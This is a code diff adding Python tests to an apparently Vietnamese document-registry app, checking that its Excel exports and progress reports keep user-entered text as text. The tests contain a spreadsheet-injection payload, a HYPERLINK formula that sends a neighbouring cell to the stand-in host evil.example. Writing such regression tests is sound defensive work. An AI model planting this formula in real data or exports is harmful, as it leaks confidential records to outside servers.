@@ -218,3 +218,55 @@ def test_page_urls_of_a_hidden_document_answer_as_a_missing_one(anon_client: Any
         missing = anon_client.get(path.replace("{document_id}", "0" * 8 + doc[8:]), follow_redirects=False)
         assert hidden.status_code == missing.status_code and hidden.status_code in (403, 404), (path, hidden.status_code)
         assert "kinhmat91" not in hidden.text and "91/TB-UBND" not in hidden.text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&F6,"Xem chi tiết")'
+
+
+def _formula_cells(data: bytes) -> list[str]:
+    import io
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(data))
+    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+def test_spreadsheet_exports_carry_no_formula_from_the_data(client: Any, users: Any) -> None:
+    """A sender's text (an e-mail subject, an edXML header, a unit's progress note) that starts with "=" became a
+    live formula in the Excel exports — a HYPERLINK that sends the neighbouring cells (other lines of the register)
+    to an outside server when the clerk opens the file. Every cell of the data is text."""
+    clerk = users.headers("clerk", clearance=3, username="vanthu3")
+    r = client.post("/registry/incoming", headers=clerk, files={"file": ("a.txt", SECRET.encode(), "text/plain")},
+                    data={"sender": "Sở Tài chính", "subject": FORMULA})
+    assert r.status_code == 201, r.text
+    register = r.json()["register_id"]
+    export = client.get(f"/registry/registers/{register}/export", params={"format": "xlsx"}, headers=clerk)
+    assert export.status_code == 200
+    assert _formula_cells(export.content) == []
+    import io
+
+    from openpyxl import load_workbook
+
+    cells = [c.value for ws in load_workbook(io.BytesIO(export.content)).worksheets for row in ws.iter_rows()
+             for c in row]
+    assert FORMULA in cells  # kept verbatim, as text
+
+
+def test_a_units_progress_note_is_text_in_the_leaders_report(client: Any) -> None:
+    """The insider's way: unit staff write their progress note as a formula; the leader's Excel report keeps it as
+    text (it would otherwise send the other units' lines away when opened)."""
+    from helpers.briefing import confirm_all, fast_headers, ingest, ok
+    from helpers.notices import notice_text
+
+    clerk = fast_headers("clerk", username="vanthu")
+    staff = fast_headers("unit_staff", "Sở Y tế", 0, "yte1")
+    leader = fast_headers("leader", username="lanhdao")
+    items = ["Giao Sở Y tế chủ trì kiểm tra kho thuốc dự trữ, báo cáo trước ngày 20/11/2008."]
+    doc = ingest(client, "tb-17.txt", notice_text("17/TB-UBND", "05/11/2008", items).encode(), clerk)
+    [task] = confirm_all(client, clerk, doc)
+    ok(client.post(f"/tasks/{task['id']}/progress", json={"text": FORMULA, "percent": 10}, headers=staff))
+    report = client.get("/reports/progress.xlsx", headers=leader, params={"as_of": "2008-11-10"})
+    assert report.status_code == 200, report.text
+    assert _formula_cells(report.content) == []
